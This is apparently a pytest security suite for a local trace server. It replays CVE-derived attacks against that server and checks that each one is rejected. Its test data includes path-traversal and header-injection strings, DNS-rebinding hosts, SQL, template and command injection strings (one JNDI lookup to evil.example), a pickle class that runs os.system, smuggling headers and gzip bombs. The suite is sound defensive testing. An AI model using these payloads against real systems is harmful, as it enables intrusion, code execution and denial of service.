"""Flaws of comparable servers, tried on this one: nothing changes, leaks or crashes."""

from __future__ import annotations

import base64
import concurrent.futures
import gzip
import hashlib
import json
import os
import pickle
import re
import socket
import zlib
from typing import TYPE_CHECKING, Any

import pytest

import cirron as ci

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.real.server.serving import Serving, batch, resident_bytes, session, wait_until
else:
    from serving import Serving, batch, resident_bytes, session, wait_until

ROUTES = (
    "/api/traces",
    "/api/traces/blobs/a",
    "/api/events",
    "/api/runs",
    "/api/logout",
    "/",
    "/x",
)
METHODS = ("GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "BREW")
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'`${7*7}{{7*7}}\u2028&lt;"


def files(server: Serving) -> dict[str, str]:
    """Everything the server has stored, except for incomplete files."""
    return {
        str(path.relative_to(server.folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(server.folder.rglob("*"))
        if path.is_file() and path.suffix not in (".tmp", ".txt")
    }


@pytest.fixture
def unchanged(shared: Serving) -> Iterator[Serving]:
    """The server. The test must not change what it stores or make it log anything."""
    shared.cookie  # noqa: B018  uses up the link
    shared.settle()
    before = files(shared)
    yield shared
    assert before == files(shared)
    assert 401 == shared.request("GET", "/api/runs").status
    assert "" == shared.errors


def raw(server: Serving, request: bytes) -> bytes:
    """The head of the response to raw bytes."""
    found = b""
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as connection:
        try:
            connection.sendall(request)
            while b"\r\n\r\n" not in found and (more := connection.recv(65_536)):
                found += more
        except ConnectionError:  # it hung up on the rest
            pass
    return found


def bearer(server: Serving) -> dict[str, str]:
    return {"authorization": f"Bearer {server.key}"}


PATHS = [
    "../secret",
    "..%2fsecret",
    "%2e%2e/%2e%2e/secret",
    "%252e%252e%252fsecret",
    "a/../../secret",
    "a/%2e%2e/%2e%2e/secret",
    "....//secret",
    "..\\secret",
    "..%5csecret",
    "%2fetc%2fpasswd",
    "/etc/passwd",
    "file:///etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
    "a%00b",
    "a%0d%0aX-Evil:1",
    ".hidden",
    "a/.hidden",
    "a" * 2_000,
    "~root",
    "%c0%ae%c0%ae/secret",
]


@pytest.mark.parametrize("path", PATHS)
def test_client_paths_are_never_opened(unchanged: Serving, path: str) -> None:
    """MLflow CVE-2023-1177, 2024-1560, 2025-11201, 2026-2614: paths of clients are never opened,
    decoded once, twice or not at all, to write or to read.
    """
    for prefix in ("/api/traces/blobs/", "/api/runs/", "/api/", "/", "/assets/"):
        for method, headers in (
            ("GET", {"cookie": unchanged.cookie}),
            ("PUT", bearer(unchanged)),
        ):
            try:
                found = unchanged.request(method, prefix + path, b"x", **headers)
            except ValueError:  # the client itself sends no such thing
                continue
            assert b"root:" not in found.body
            assert found.status in (200, 400, 401, 404, 405, 503), found
            if found.status == 200:  # the page
                assert "text/html" == found.headers["content-type"].partition(";")[0]
            assert "x-evil" not in found.headers


def test_a_stored_path_is_never_opened(shared: Serving, tmp_path: Path) -> None:
    """Also not if a batch contains it: blob addresses, run ids and tensor names are only text."""
    (tmp_path / "private").write_text("private")
    content = batch(session("../../../outside"), steps=1)
    content["snapshots"] = [
        {
            "id": "a" * 32,
            "span_id": content["spans"][0]["id"],
            "tensor_name": "../../w",
            "shape": [1],
            "dtype": "float32",
            "mode": "full",
            "stats": {
                **dict.fromkeys(("mean", "std", "min", "max", "norm"), 0.0),
                "histogram": {"bins": [0.0] * 17, "counts": [0] * 16},
            },
            "blob_uri": (tmp_path / "private").as_uri(),
            "ts_ns": 1,
            "attrs": {},
        }
    ]
    outside = {one.name for one in shared.folder.parent.iterdir()}

    assert 200 == shared.send(content).status
    shared.settle()

    assert outside == {one.name for one in shared.folder.parent.iterdir()}
    assert "../../../outside" in wait_until(shared.runs, "the run")
    for path in ("snapshots/private", "private", "%2e%2e/private"):
        assert b"private" not in shared.get(f"/api/traces/blobs/{path}").body.replace(
            b"private'", b""
        )


HOSTS = [
    "evil.example",
    "127.0.0.1.evil.example",
    "localhost.evil.example",
    "evil.example:8321",
    "localhost@evil.example",
    "evil.example#localhost",
    "[::1",
    "",
    "2130706433.nip.io",
]


@pytest.mark.parametrize("host", HOSTS)
def test_dns_rebinding(unchanged: Serving, host: str) -> None:
    """MLflow CVE-2025-14279: a host name from an attacker's DNS is rejected, even with a key."""
    for path in ("/api/runs", "/", "/api/traces"):
        found = raw(
            unchanged,
            f"GET {path} HTTP/1.1\r\nHost: {host}\r\nCookie: {unchanged.cookie}\r\n\r\n".encode(),
        )
        assert re.match(rb"HTTP/1\.1 4(21|00) ", found), found


def test_a_request_has_one_host(unchanged: Serving) -> None:
    """A request without a Host or with two is rejected: a proxy may have checked the other."""
    for hosts in ("", "Host: 127.0.0.1\r\nHost: evil.example\r\n"):
        found = raw(unchanged, f"GET /api/runs HTTP/1.1\r\n{hosts}\r\n".encode())
        assert re.match(rb"HTTP/1\.1 4(21|00) ", found), found


@pytest.mark.parametrize("method", METHODS)
def test_no_method_was_forgotten(unchanged: Serving, method: str) -> None:
    """Ray CVE-2026-27482: without a key, no method of any route does or reveals anything."""
    for path in ROUTES:
        found = unchanged.request(method, path, b"{}")
        is_page = path in ("/", "/x") and method in ("GET", "HEAD")
        is_logout = path == "/api/logout" and method == "POST"
        if not is_page and not is_logout:
            assert found.status in (401, 404, 405), (method, path, found)


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://evil.example"},
        {"origin": "null"},
        {"origin": "http://127.0.0.1.evil.example"},
        {"origin": "http://127.0.0.1:1"},
        {"sec_fetch_site": "cross-site"},
        {"sec_fetch_site": "same-site"},
        {"content_type": "text/plain"},
        {"content_type": "application/x-www-form-urlencoded", "referer": "http://evil.example/"},
    ],
)
def test_requests_that_another_site_makes(unchanged: Serving, headers: dict[str, str]) -> None:
    """MLflow CVE-2025-1473: another site cannot make a logged-in browser write."""
    body = json.dumps(batch(session("forged"))).encode()
    for method, path in (("POST", "/api/traces"), ("PUT", "/api/traces/blobs/a")):
        found = unchanged.request(method, path, body, cookie=unchanged.cookie, **headers)
        assert found.status in (401, 403)
        assert "access-control-allow-origin" not in found.headers
    if "origin" in headers or "sec_fetch_site" in headers:
        assert 403 == unchanged.get("/api/runs", **headers).status
        assert 403 == unchanged.get("/api/events", **headers).status


@pytest.mark.parametrize(
    "text",
    [
        "'; COPY (SELECT 1) TO 'owned' --",
        "x' UNION SELECT * FROM read_text('/etc/passwd') --",
        "__import__('os').system('touch owned')",
        "().__class__.__bases__[0].__subclasses__()",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "read_csv('/etc/passwd')",
        "$(touch owned)",
        "run.id == '' or open('owned', 'w')",
    ],
)
def test_no_parameter_is_code(unchanged: Serving, text: str) -> None:
    """Aim CVE-2024-2195, Arc CVE-2026-47735: no query language, and parameters are bound."""
    from urllib.parse import quote

    for path in (
        f"/api/runs/{quote(text, safe='')}",
        f"/api/runs?search={quote(text)}&q={quote(text)}&run={quote(text)}&sort={quote(text)}",
        f"/api/runs/{quote(text, safe='')}/steps?from={quote(text)}",
        f"/api/sql?q={quote(text)}",
        f"/api/events?cursor={quote(text)}",
    ):
        found = unchanged.get(path)
        assert found.status in (200, 400, 404), found
        assert b"root:" not in found.body
    assert not (unchanged.folder / "owned").exists()


class Bomb:
    def __reduce__(self) -> Any:
        return os.system, ("touch owned",)


def test_nothing_is_unpickled(shared: Serving) -> None:
    """ClearML CVE-2024-24590: a blob is only bytes, whatever its name and content."""
    for name in ("model.pkl", "weights.safetensors", "a.pt", "a.npy"):
        path = f"/api/traces/blobs/snapshots/{name}"
        assert 200 == shared.request("PUT", path, pickle.dumps(Bomb()), **bearer(shared)).status
        assert pickle.dumps(Bomb()) == shared.get(path).body
    content = batch(session("pickled"), steps=1)
    content["spans"][0]["attrs"] = {"x": base64.b64encode(pickle.dumps(Bomb())).decode()}
    assert 200 == shared.send(content).status
    shared.settle()

    assert not list(shared.folder.rglob("owned"))


def test_no_side_door(unchanged: Serving) -> None:
    """Ray CVE-2023-48022, MLflow CVE-2026-2651: only the page's own files need no key."""
    from cirron.server.access import PUBLIC
    from cirron.server.app import App

    app = App("all", *([_Anything()] * 4))  # type: ignore[arg-type]
    public = {(one.method, one.path) for one in app.table if one.needs == PUBLIC}
    assert {("GET", "/{rest:path}"), ("POST", "/api/logout")} == public
    for path in (
        *("/api", "/api/", "/api//runs", "/api/./runs", "/API/runs", "/api/runs/", "/api/debug"),
        *("/api/docs", "/api/openapi.json", "/api/health", "/api/metrics", "/api/keys"),
        *("/api/jobs", "/api/runs/..;/", "/api/2.0/mlflow/experiments/list"),
    ):
        found = unchanged.request("GET", path)
        is_page = path in ("/API/runs", "/api")
        assert is_page or found.status in (401, 404), (path, found)
    with pytest.raises(ConnectionError):
        _open_websocket(unchanged)


class _Anything:
    wake = batch = put_blob = get_blob = check = None

    def around(self, app: Any) -> Any:
        return app


def _open_websocket(server: Serving) -> None:
    found = raw(
        server,
        b"GET /api/events HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade"
        b"\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    )
    if not found.startswith(b"HTTP/1.1 101"):
        raise ConnectionError


def test_no_request_is_many(shared: Serving) -> None:
    """MLflow CVE-2025-0453: a few queries run at a time, the others wait or get 429."""
    shared.cookie  # noqa: B018
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        found = list(pool.map(lambda _: shared.get("/api/runs").status, range(300)))
    assert set(found) <= {200, 429}
    assert 414 == shared.get("/api/runs?" + "run=a&" * 3_000).status
    assert shared.get("/api/runs?" + "run=a&" * 1_000).status in (200, 400, 404)
    assert 200 == shared.get("/api/runs").status


def test_the_login_leads_nowhere_else(serve: Callable[..., Serving]) -> None:
    """Jupyter CVE-2022-29241 and others: no open redirect, with a valid link or a session."""
    server = serve()
    token = server.link.partition("token=")[2]
    cookie = ""
    for path in (
        *("//evil.example/", "/\\evil.example/", "/%2f%2fevil.example/", "///evil.example"),
        *("/%5cevil.example", "/%09/evil.example", "/.//evil.example", "//evil.example%2f.."),
    ):
        asked = f"GET {path}?token={token}&next=//evil HTTP/1.1\r\nHost: localhost\r\n{cookie}\r\n"
        found = raw(server, asked.encode())
        given = re.findall(rb"(?i)set-cookie: ([^;]+)", found)
        if given:
            cookie = f"Cookie: {given[0].decode()}\r\n"
        (location,) = re.findall(rb"(?i)location: (.*?)\r\n", found)
        assert re.match(rb"/(?![/\\\t])", location), location
    assert cookie


def test_the_token_leaks_nowhere(serve: Callable[..., Serving]) -> None:
    """Jupyter CVE-2022-29241: the token works once, and is in no log, redirect or referrer."""
    server = serve()
    token = server.link.partition("token=")[2]

    found = server.request("GET", f"/deep/link?a=1&token={token}")

    assert (303, "/deep/link?a=1") == (found.status, found.headers["location"])
    assert "no-referrer" == found.headers["referrer-policy"]
    assert "httponly" in found.headers["set-cookie"].lower()
    assert "samesite=strict" in found.headers["set-cookie"].lower()
    assert 403 == server.request("GET", f"/?token={token}").status
    for tried in ("x" * 43, "x", "../secret", "a" * 5_000, "%00"):
        assert 403 == server.request("GET", f"/?token={tried}").status
    server.stop()
    assert token not in server.errors + "".join(server.said)
    kept = b"".join(path.read_bytes() for path in server.depot.rglob("*") if path.is_file())
    assert token.encode() not in kept
    assert server.key.encode() not in kept


@pytest.mark.parametrize("form", ["zeros", "nested", "members", "deep", "wide", "digits", "cut"])
def test_bombs(unchanged: Serving, form: str) -> None:
    """Bodies that are too large, too deep or too many are rejected in bounded memory."""
    before = resident_bytes(unchanged.process.pid)
    unzipped = {
        "deep": b'{"a":' + b"[" * 500_000 + b"]" * 500_000 + b"}",
        "wide": b'{"schema_version":1,"batch_id":"%s","spans":[' % (b"0" * 32) + b"[]," * 3_000_000,
        "digits": b'{"schema_version":' + b"9" * 5_000_000 + b"}",
    }.get(form)
    if unzipped is not None:
        body = gzip.compress(unzipped, 1)
    elif form == "zeros":
        packer = zlib.compressobj(9, wbits=31)
        body = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
        block = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
        body += block * 10_000  # of 10 GB
    elif form == "nested":
        body = gzip.compress(gzip.compress(bytes(2**26)))
    elif form == "members":
        body = gzip.compress(b"{}") * 100_000
    else:
        body = gzip.compress(b"{}")[:-4]

    found = unchanged.request(
        "POST", "/api/traces", body, content_encoding="gzip", **bearer(unchanged)
    )

    assert found.status in (400, 413, 422), found
    assert resident_bytes(unchanged.process.pid) - before < 300e6


def test_a_body_that_lies_about_its_length(unchanged: Serving) -> None:
    """A body that is too long, or that gives two lengths, is rejected."""
    head = (
        f"POST /api/traces HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {unchanged.key}\r\n"
    )
    large = raw(unchanged, f"{head}Content-Length: 99999999999\r\n\r\n".encode())
    assert large.startswith(b"HTTP/1.1 413")
    for lengths in (
        "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
        "Content-Length: 5\r\nContent-Length: 6\r\n",
        "Content-Length: -1\r\n",
        "Content-Length: 0x10\r\n",
        "Transfer-Encoding: gzip, chunked\r\n",
        "Transfer-Encoding: chunked, chunked\r\n",
    ):
        found = raw(unchanged, f"{head}{lengths}\r\n0\r\n\r\n".encode())
        assert re.match(rb"HTTP/1\.1 (4\d\d|501) ", found), (lengths, found)


def test_markup_in_every_field(shared: Serving) -> None:
    """Whatever names a client uses, the response is JSON that no browser renders."""
    content = batch(session(MARKUP, host=MARKUP), steps=1)
    content["session"]["program"] = {
        "script": MARKUP,
        "arguments": [MARKUP],
        "tags": {MARKUP: MARKUP},
        "config": {MARKUP: [MARKUP]},
    }
    content["sdk_version"] = MARKUP
    for one in content["spans"]:
        one["name"] = one["name"] + MARKUP
        one["attrs"] = {MARKUP: MARKUP, "error": MARKUP, "mode": MARKUP}
    for one in content["marks"]:
        one |= {"name": MARKUP, "value_type": "string", "value": MARKUP, "attrs": {MARKUP: MARKUP}}
    assert 200 == shared.send(content).status
    shared.settle()
    wait_until(lambda: MARKUP in shared.runs(), "the run")

    from urllib.parse import quote

    for path in ("/api/runs", f"/api/runs/{quote(MARKUP, safe='')}", f"/api/{quote(MARKUP)}"):
        found = shared.get(path)
        assert b"<" not in found.body
        assert "application/json" == found.headers["content-type"]
        assert "nosniff" == found.headers["x-content-type-options"]
        assert "default-src 'none'" in found.headers["content-security-policy"]
    run = ci.open(shared.depot, run=MARKUP)
    assert MARKUP == run.marks.rows()[0]["name"]


def test_wrong_keys_are_slowed_down(serve: Callable[..., Serving]) -> None:
    """Clients that guess keys get 429; clients with the right key do not."""
    server = serve()

    found = [
        server.request("GET", "/api/runs", authorization="Bearer no").status for _ in range(60)
    ]

    assert {401, 429} == set(found)
    assert 200 == server.send(batch(session("mine"), steps=1)).status
